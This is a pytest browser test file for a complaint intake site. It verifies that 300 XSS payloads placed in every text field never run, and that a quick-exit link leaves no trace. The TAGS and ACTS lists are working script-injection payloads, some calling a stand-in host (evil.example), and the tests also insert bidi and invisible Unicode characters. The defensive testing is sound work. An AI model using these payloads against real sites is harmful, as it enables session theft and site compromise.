"""S16, S21, S29: words that want to run do not, in a real browser under our own headers."""

import itertools

import pytest

from intake.flow.complaint import COMPLAINT
from intake.flow.sample import sample
from tests.browser.test_journeys import come_back, log_in, new_phone
from tests.browser_filer import go
from tests.filer import Filer
from tests.server import HttpClient, running

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.once]

TAGS = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<details open ontoggle={}>",
    "'\"><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "<a href=javascript:{}>x</a>", "<math><mtext></math><img src=x onerror={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<marquee onstart={}>",
    "<object data=javascript:{}>", "<form action=javascript:{}><button>",
    "<style>@import 'javascript:{}'</style>", "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;javascript:{}'>", "--><script>{}</script>",
]  # fmt: skip
ACTS = ["alert(1)", "alert`1`", "top.alert(1)", "confirm(1)", "prompt(1)",
        "document.title='x'", "eval('alert(1)')", "import('/x')", "fetch('//evil.example')",
        "location='//evil.example'", "self['al'+'ert'](1)", "(()=>alert(1))()",
        "setTimeout('alert(1)')", "new Function('alert(1)')()", "{{7*7}}{% debug %}"]  # fmt: skip
PAYLOADS = [tag.format(act) for tag, act in itertools.product(TAGS, ACTS)]
# Signs that turn text around or cannot be seen (S21).
TURNED = "".join(chr(code) for code in (0x202E, 0x2066, 0x2067, 0x2069, 0x200B, 0x200D, 0x2060))


@pytest.fixture(scope="module")
def site(tmp_path_factory, engine_url):
    with running(tmp_path_factory.mktemp("hostile"), engine_url) as (server, _secrets):
        yield server


def hostile_answers():
    """Return the answers of a complaint with payloads in every field of words."""
    answers, left = sample(COMPLAINT, filing_for="family", held=True), iter(PAYLOADS * 2)
    for key, value in answers.items():
        form = COMPLAINT.step(key).form
        fields = form.base_fields if form else {}
        for entry in value if isinstance(value, list) else [value]:
            for name, given in entry.items():
                kind = type(fields.get(name)).__name__
                if isinstance(given, str) and given and kind in ("Text", "Name"):
                    entry[name] = next(left) + TURNED
    answers["story"]["story"] = "\n".join(PAYLOADS)
    return answers


def test_s16_300_payloads_run_nowhere(chromium, site):
    assert len(set(PAYLOADS)) == 300
    filer = Filer(HttpClient(site), hostile_answers()).go()
    filer.send(name=PAYLOADS[0])
    code = filer.code()
    base, page = f"http://127.0.0.1:{site.port}", new_phone(chromium)
    ran, reported = [], []
    page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda line: reported.append(line.text)
            if "Content Security Policy" in line.text else None)  # fmt: skip
    log_in(page, base)
    page.goto(f"{base}/office/")
    go(page.locator("table.queue th a").first)
    case = page.url.split("?")[0]
    go(page.get_by_role("button", name="Show them"))
    page.goto(f"{case}act/?template=ask")
    page.get_by_label("Message to the person").fill("\n".join(PAYLOADS[:60]))
    go(page.get_by_role("button", name="Keep all of it"))
    page.goto(case)
    assert PAYLOADS[0] in page.locator("main").inner_text()
    page.get_by_label("Prepare papers for").select_option("crcl")
    go(page.get_by_role("button", name="Prepare"))
    packet = page.url
    for link in page.locator("ul.cards h3 a").evaluate_all("nodes => nodes.map(n => n.href)"):
        page.goto(link)
    page.goto(f"{base}/office/today/")
    page.goto(packet)
    phone = come_back(chromium, base, code)
    phone.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
    for path in ("/status/", "/messages/", "/papers/", "/papers/crcl-complaint/"):
        phone.goto(base + path)
    assert "<script>" in phone.locator("main").inner_text()
    assert ran == [] and reported == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_s29_leaving_leaves_no_word_behind(chromium, site):
    base = f"http://127.0.0.1:{site.port}"
    filer = Filer(HttpClient(site), sample(COMPLAINT)).go()
    filer.send()
    page = come_back(chromium, base, filer.code())
    for path in ("/messages/", "/papers/", "/papers/crcl-complaint/", "/status/"):
        page.goto(base + path)
    assert "Ana María" not in page.title()
    page.goto(f"{base}/papers/crcl-complaint/")
    assert "Ana María" in page.content()
    page.route("https://www.weather.gov/**", lambda route: route.fulfill(body="weather"))
    page.goto(f"{base}/status/")
    page.get_by_role("link", name="Leave fast").click()
    page.wait_for_url("https://www.weather.gov/**")
    for _ in range(10):
        page.go_back(wait_until="load")
        assert "Ana María" not in page.content() and "Sent" not in page.content()
    assert [one for one in page.context.cookies() if "visit" in one["name"]] == []
